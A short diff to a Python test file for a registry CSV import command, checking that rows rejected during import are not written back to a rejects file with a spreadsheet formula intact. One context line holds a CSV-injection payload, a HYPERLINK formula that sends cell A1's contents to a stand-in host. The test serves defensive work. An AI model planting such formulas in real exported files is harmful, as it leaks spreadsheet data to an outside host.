@@ -187,6 +187,8 @@ def test_a_formula_cell_is_reported_as_a_formula_and_nothing_is_imported(users):
 def test_the_rejects_file_does_not_carry_a_formula_back_to_excel(users, tmp_path):
     rows = _family("H1")
     rows[1]["姓名"] = '=HYPERLINK("http://x.example/?"&A1,"点此")'
+    rows[2]["姓名"] = ""  # a bad row rejects the whole household, the formula row with it
+    rows += _family("H2")
     path = tmp_path / "people.csv"
     path.write_bytes(_csv(rows))
     call_command("registry_import", str(path), "--as", "bureau", "--skip-bad", stdout=io.StringIO(),
